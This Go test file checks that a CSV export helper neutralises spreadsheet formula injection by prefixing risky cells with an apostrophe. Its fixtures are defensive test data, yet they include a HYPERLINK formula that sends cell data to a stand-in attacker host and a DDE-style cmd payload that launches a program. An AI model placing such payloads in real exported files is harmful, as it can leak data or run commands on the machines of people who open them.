package csvexport_test

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"

	"github.com/attrib-engine/attrib/csvexport"
)

func TestCell(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"empty", "", ""},
		{"text", "Summer sale", "Summer sale"},
		{"id", "A-1001", "A-1001"},
		{"amount", "1234.50", "1234.50"},
		{"negative amount", "-12.50", "-12.50"},
		{"signed integer", "+7", "+7"},
		{"negative integer", "-42", "-42"},
		{"time", "2026-11-01T10:00:00Z", "2026-11-01T10:00:00Z"},
		{"formula", `=HYPERLINK("http://evil.example/?d="&A2,"Open")`, `'=HYPERLINK("http://evil.example/?d="&A2,"Open")`},
		{"plus formula", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"minus formula", "-2+3", "'-2+3"},
		{"minus text", "-sale", "'-sale"},
		{"lone minus", "-", "'-"},
		{"lone plus", "+", "'+"},
		{"minus point", "-.5", "'-.5"},
		{"trailing point", "-5.", "'-5."},
		{"exponent", "-1e5", "'-1e5"},
		{"two points", "-1.2.3", "'-1.2.3"},
		{"at", "@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"tab", "\t=1+1", "'\t=1+1"},
		{"carriage return", "\r=1+1", "'\r=1+1"},
		{"equals inside", "a=b", "a=b"},
		{"already quoted", "'=1", "'=1"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := csvexport.Cell(tc.in); got != tc.want {
				t.Errorf("Cell(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

func TestWriterNeutralisesEveryCell(t *testing.T) {
	var buf bytes.Buffer
	w := csvexport.NewWriter(&buf)
	rec := []string{"=1+1", "-12.50", "@x", "plain, \"quoted\"\nline", "+x"}
	orig := slices.Clone(rec)
	if err := w.Write(rec); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(rec, orig) {
		t.Errorf("Write changed its argument to %q", rec)
	}
	got, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"'=1+1", "-12.50", "'@x", "plain, \"quoted\"\nline", "'+x"}
	if len(got) != 1 || !slices.Equal(got[0], want) {
		t.Errorf("read back %q, want [%q]", got, want)
	}
}
